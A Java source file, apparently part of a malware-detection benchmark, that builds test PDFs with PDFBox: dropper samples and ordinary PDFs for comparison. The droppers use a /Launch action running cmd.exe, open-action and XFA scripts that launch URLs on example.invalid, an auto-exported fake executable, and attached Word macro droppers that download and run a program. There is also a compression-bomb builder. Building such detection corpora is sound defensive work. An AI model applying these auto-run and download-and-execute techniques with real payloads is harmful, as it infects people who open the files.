package org.peekaboo.bench;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;

/**
 * PDFs that run or drop something, as droppers send them, and ordinary ones to compare, built
 * with PDFBox. Harmless: the "programs" are an MZ header and zeros, the scripts only name
 * example.invalid, and nothing here opens them.
 */
public final class DropperPdfs {
    private static final String DIRECTORY = "malicious";

    private DropperPdfs() {
    }

    /** The PDF droppers of the corpus; {@code first} numbers them on from the corpus' other droppers. */
    static List<DropperCorpus.Sample> malicious(int first) {
        List<DropperCorpus.Sample> samples = new ArrayList<>();
        int n = first;
        samples.add(sample(n++, "pdf-launch-cmd.pdf", launch("cmd.exe", "/c start http://example.invalid/l")));
        samples.add(sample(n++, "pdf-openaction-javascript.pdf",
                openActionScript("app.launchURL('http://example.invalid/invoice', true);")));
        samples.add(sample(n++, "pdf-embedded-exe-export.pdf", embeddedExport("invoice.exe", fakeProgram())));
        samples.add(sample(n++, "pdf-attachment-js.pdf", attachmentAnnotation("Rechnung.js",
                DropperFiles.JSCRIPT.getBytes(StandardCharsets.UTF_8))));
        // Caught by the name of the attachment, and by the macro rules once the PDF is opened.
        samples.add(sample(n++, "pdf-attachment-docm-dropper.pdf", attachments(Map.of("Bestellung.docm",
                wordDropper(false)))));
        // Caught only when the PDF is opened: neither name is a program's, the members are judged.
        samples.add(sample(n++, "pdf-attachment-doc-dropper.pdf", attachments(Map.of("Bestellung.doc",
                wordDropper(true)))));
        samples.add(sample(n++, "pdf-attachment-zip-js.pdf", attachments(Map.of("Rechnung.zip",
                zip("Rechnung.js", DropperFiles.JSCRIPT.getBytes(StandardCharsets.UTF_8))))));
        samples.add(sample(n, "pdf-xfa-initialize-launchurl.pdf", xfaForm(xfaEvent("initialize",
                "app.launchURL(\"http://example.invalid/rechnung\", true);"), true)));
        return samples;
    }

    /**
     * Ordinary PDFs of the kinds the droppers imitate, for the benign side of the corpus: minutes with a
     * text and a CSV file attached, and an XFA form that computes and checks its fields.
     */
    static List<DropperCorpus.Sample> benign() {
        Map<String, byte[]> files = new java.util.LinkedHashMap<>();
        files.put("Protokoll.txt", "Protokoll der Sitzung vom 3. November.\n".getBytes(StandardCharsets.UTF_8));
        files.put("Zahlen.csv", "Monat;Betrag\nOktober;1200,00\nNovember;980,50\n".getBytes(StandardCharsets.UTF_8));
        return List.of(new DropperCorpus.Sample("benign-macros", "pdf-attachments-minutes.pdf", attachments(files)),
                new DropperCorpus.Sample("benign-macros", "pdf-xfa-form.pdf", benignXfaForm()));
    }

    /**
     * A Word document whose AutoOpen macro downloads a program with XMLHTTP and ADODB.Stream and runs it,
     * as the corpus' macro droppers do; Word 97 ({@code .doc}) or OOXML ({@code .docm}).
     */
    public static byte[] wordDropper(boolean ole2) {
        DropperMacros.Trigger trigger = DropperMacros.TRIGGERS.getFirst();
        DropperMacros.Payload payload = DropperMacros.payloads().stream()
                .filter(candidate -> candidate.tag().equals("xmlhttp-adodb")).findFirst().orElseThrow();
        Map<String, String> modules = org.peekaboo.office.testing.OfficeFiles.module(trigger.module(),
                DropperMacros.dropper(trigger, trigger.name(), payload));
        return ole2 ? org.peekaboo.office.testing.OfficeFiles.doc(modules)
                : org.peekaboo.office.testing.OfficeFiles.docm(modules);
    }

    /** A ZIP archive of one file. */
    public static byte[] zip(String name, byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (java.util.zip.ZipOutputStream out = new java.util.zip.ZipOutputStream(bytes)) {
            out.putNextEntry(new java.util.zip.ZipEntry(name));
            out.write(content);
            out.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** An MZ header and zeros: what a program looks like to a rule, without being one. */
    public static byte[] fakeProgram() {
        byte[] bytes = new byte[512];
        bytes[0] = 'M';
        bytes[1] = 'Z';
        return bytes;
    }

    /** A page of text, nothing else. */
    public static byte[] plain() {
        return build(document -> { });
    }

    /** Opens with a {@code /Launch} action that starts {@code program}. */
    public static byte[] launch(String program, String parameters) {
        return build(document -> {
            COSDictionary windows = new COSDictionary();
            windows.setItem(COSName.F, new COSString(program));
            windows.setItem(COSName.P, new COSString(parameters));
            COSDictionary action = new COSDictionary();
            action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
            action.setItem(COSName.S, COSName.getPDFName("Launch"));
            action.setItem(COSName.getPDFName("Win"), windows);
            document.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, action);
        });
    }

    /** Runs {@code script} when the document opens. */
    public static byte[] openActionScript(String script) {
        return build(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript(script)));
    }

    /** Runs {@code script} when the first page opens (the page's additional actions). */
    public static byte[] pageOpenScript(String script) {
        return build(document -> {
            COSDictionary actions = new COSDictionary();
            actions.setItem(COSName.O, new PDActionJavaScript(script));
            document.getPage(0).getCOSObject().setItem(COSName.AA, actions);
        });
    }

    /** Carries {@code script} as a document-level script (the names tree). */
    public static byte[] documentLevelScript(String script) {
        return build(document -> {
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("init", new PDActionJavaScript(script)));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /** Attaches {@code content} as {@code name} and exports it (opens it) when the document opens. */
    public static byte[] embeddedExport(String name, byte[] content) {
        return build(document -> {
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of(name, fileSpecification(document, name, content)));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript(
                    "this.exportDataObject({cName: '" + name + "', nLaunch: 2});"));
        });
    }

    /** Attaches {@code content} as {@code name}, without any script. */
    public static byte[] embedded(String name, byte[] content) {
        return build(document -> {
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of(name, fileSpecification(document, name, content)));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /**
     * Attaches each file in the document's attachments (the names tree), compressed with FlateDecode as
     * PDF writers do; keys are the names.
     */
    public static byte[] attachments(Map<String, byte[]> files) {
        return build(document -> {
            Map<String, PDComplexFileSpecification> specifications = new java.util.LinkedHashMap<>();
            for (Map.Entry<String, byte[]> file : files.entrySet()) {
                specifications.put(file.getKey(), fileSpecification(document, file.getKey(),
                        new ByteArrayInputStream(file.getValue()), COSName.FLATE_DECODE));
            }
            PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(specifications);
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /** Attaches {@code size} zero bytes as {@code name}, FlateDecode-compressed to a few kilobytes: a bomb. */
    public static byte[] zeroBomb(String name, long size) {
        return build(document -> {
            InputStream zeros = new InputStream() {
                private long left = size;

                @Override
                public int read() {
                    return left-- > 0 ? 0 : -1;
                }

                @Override
                public int read(byte[] buffer, int offset, int length) {
                    if (left <= 0) {
                        return -1;
                    }
                    int n = (int) Math.min(length, left);
                    java.util.Arrays.fill(buffer, offset, offset + n, (byte) 0);
                    left -= n;
                    return n;
                }
            };
            PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of(name, fileSpecification(document, name, zeros, COSName.FLATE_DECODE)));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /** Attaches {@code content} as {@code name} by a file attachment annotation (a paper clip on the page). */
    public static byte[] attachmentAnnotation(String name, byte[] content) {
        return build(document -> {
            PDAnnotationFileAttachment clip = new PDAnnotationFileAttachment();
            clip.setFile(fileSpecification(document, name, content));
            clip.setRectangle(new PDRectangle(60, 700, 16, 16));
            document.getPage(0).getAnnotations().add(clip);
        });
    }

    /**
     * A form as offices send them: an amount field formatted and checked by the viewer's AF
     * functions, a print button, a link to a web page.
     */
    public static byte[] benignForm() {
        return benignFormWithButtonScript("this.print({bUI: true});");
    }

    /** The form of {@link #benignForm()} with {@code script} behind its button. */
    public static byte[] benignFormWithButtonScript(String buttonScript) {
        return build(document -> {
            PDPage page = document.getPage(0);
            PDAcroForm form = new PDAcroForm(document);
            document.getDocumentCatalog().setAcroForm(form);
            PDTextField amount = new PDTextField(form);
            amount.setPartialName("amount");
            form.getFields().add(amount);
            var widget = amount.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(100, 600, 150, 20));
            widget.setPage(page);
            page.getAnnotations().add(widget);
            COSDictionary actions = new COSDictionary();
            actions.setItem(COSName.F, new PDActionJavaScript("AFNumber_Format(2, 0, 0, 0, \"\u20ac\", true);"));
            actions.setItem(COSName.K, new PDActionJavaScript("AFNumber_Keystroke(2, 0, 0, 0, \"\u20ac\", true);"));
            actions.setItem(COSName.V, new PDActionJavaScript("AFRange_Validate(true, 0, false, 0);"));
            amount.getCOSObject().setItem(COSName.AA, actions);
            PDAnnotationLink print = new PDAnnotationLink();
            print.setRectangle(new PDRectangle(100, 550, 60, 20));
            print.setAction(new PDActionJavaScript(buttonScript));
            page.getAnnotations().add(print);
            PDActionURI web = new PDActionURI();
            web.setURI("https://example.invalid/forms");
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(100, 500, 60, 20));
            link.setAction(web);
            page.getAnnotations().add(link);
        });
    }

    /**
     * An XFA form (as LiveCycle Designer writes them) with one field whose events are {@code events}
     * (XFA template XML), stored as one XML stream or as the packets preamble, template, postamble.
     */
    public static byte[] xfaForm(String events, boolean asPackets) {
        String preamble = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">\n";
        String template = "<template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\">\n"
                + "<subform name=\"form1\" layout=\"tb\" locale=\"de_DE\">\n"
                + "<field name=\"amount\" w=\"50mm\" h=\"9mm\"><ui><numericEdit/></ui>\n" + events + "\n</field>\n"
                + "</subform>\n</template>\n";
        String postamble = "</xdp:xdp>\n";
        return build(document -> {
            PDAcroForm form = new PDAcroForm(document);
            document.getDocumentCatalog().setAcroForm(form);
            if (asPackets) {
                COSArray packets = new COSArray();
                for (String[] packet : new String[][] {{"preamble", preamble}, {"template", template},
                    {"postamble", postamble}}) {
                    packets.add(new COSString(packet[0]));
                    packets.add(xmlStream(document, packet[1]));
                }
                form.getCOSObject().setItem(COSName.XFA, packets);
            } else {
                form.getCOSObject().setItem(COSName.XFA, xmlStream(document, preamble + template + postamble));
            }
        });
    }

    /** An XFA event of {@code activity} that runs {@code javaScript}, escaped for XML. */
    public static String xfaEvent(String activity, String javaScript) {
        return "<event activity=\"" + activity + "\" name=\"event__" + activity + "\">"
                + "<script contentType=\"application/x-javascript\">"
                + javaScript.replace("&", "&amp;").replace("<", "&lt;") + "</script></event>";
    }

    /**
     * An XFA form as offices make them: a default value on initialize, a calculation, a check of the
     * value, a message box on a click.
     */
    public static byte[] benignXfaForm() {
        return xfaForm(xfaEvent("initialize", "if (this.isNull) { this.rawValue = 0; }")
                + "<calculate><script contentType=\"application/x-javascript\">"
                + "this.rawValue = net.rawValue * 1.19;</script></calculate>"
                + "<validate scriptTest=\"error\"><script>this.rawValue &gt;= 0</script></validate>"
                + xfaEvent("click", "xfa.host.messageBox(\"Bitte Betrag in Euro eingeben.\", \"Hinweis\", 3);")
                + xfaEvent("ready", "xfa.layout.relayout();"), true);
    }

    private static COSStream xmlStream(PDDocument document, String xml) throws IOException {
        COSStream stream = document.getDocument().createCOSStream();
        try (java.io.OutputStream out = stream.createOutputStream(COSName.FLATE_DECODE)) {
            out.write(xml.getBytes(StandardCharsets.UTF_8));
        }
        return stream;
    }

    /** {@code pdf} encrypted (AES-128) with {@code userPassword}; the empty one lets every viewer open it. */
    public static byte[] encrypted(byte[] pdf, String userPassword) {
        try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", userPassword,
                    new AccessPermission());
            policy.setEncryptionKeyLength(128);
            document.protect(policy);
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static PDComplexFileSpecification fileSpecification(PDDocument document, String name, byte[] content)
            throws IOException {
        PDEmbeddedFile file = new PDEmbeddedFile(document, new ByteArrayInputStream(content));
        file.setSize(content.length);
        return specification(name, file);
    }

    private static PDComplexFileSpecification fileSpecification(PDDocument document, String name, InputStream content,
                                                                COSName filter) throws IOException {
        return specification(name, new PDEmbeddedFile(document, content, filter));
    }

    private static PDComplexFileSpecification specification(String name, PDEmbeddedFile file) {
        PDComplexFileSpecification specification = new PDComplexFileSpecification();
        specification.setFile(name);
        specification.setFileUnicode(name);
        specification.setEmbeddedFile(file);
        specification.setEmbeddedFileUnicode(file);
        return specification;
    }

    private interface Content {
        void add(PDDocument document) throws IOException;
    }

    private static byte[] build(Content content) {
        try (PDDocument document = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            document.addPage(page);
            try (PDPageContentStream text = new PDPageContentStream(document, page)) {
                text.beginText();
                text.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                text.newLineAtOffset(72, 760);
                text.showText("Invoice 2026-11: please find the details enclosed.");
                text.endText();
            }
            content.add(document);
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] save(PDDocument document) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        document.save(out);
        return out.toByteArray();
    }

    private static DropperCorpus.Sample sample(int n, String name, byte[] bytes) {
        return new DropperCorpus.Sample(DIRECTORY, "%02d-%s".formatted(n, name), bytes);
    }
}
